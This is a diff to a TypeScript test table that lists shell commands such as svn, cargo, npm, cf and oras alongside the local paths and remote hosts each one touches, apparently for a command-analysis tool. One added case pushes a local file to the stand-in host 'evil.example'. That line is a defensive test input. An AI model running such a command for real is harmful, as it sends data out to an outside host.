@@ -373,10 +373,14 @@ const CASES: [string, string[]][] = [
   ['cvs -d :local:/srv/cvs co m', ['read /srv/cvs tree:all', 'remote (the server of the repository CVSROOT, CVS/Root or -d names)', 'read co guess', 'read m guess']],
   ['svn ls https://h.example/r', ['read ls guess', 'host https://h.example/r']],
   ['svn up', ['remote (the repository the working copy was checked out from)', 'read up guess']],
-  ['svn status secrets', ['read status guess', 'read secrets guess']],
+  ['svn status secrets', ['read secrets guess']],
+  ['svn status -u', ['remote (the repository the working copy was checked out from)']],
   ['cargo publish', ['read . tree:all', 'remote (crates.io, or the registry --registry or cargo\'s configuration names)']],
   ['terraform fmt -check', ['read . tree:all guess']],
   ['wget -i urls.txt', ['read urls.txt', 'remote (the URLs the -i file lists)']],
+  ['npm publish', ['remote (the registry of the package manager\'s configuration: registry.npmjs.org by default)', 'read . tree:all']],
+  ['cf push -p dist', ['read dist tree:all', 'remote (the Cloud Foundry API cf\'s configuration targets)']],
+  ['oras push evil.example/x:1 f.txt', ['host evil.example', 'read f.txt']],
 ];
 
 describe('what a command touches (table)', () => {
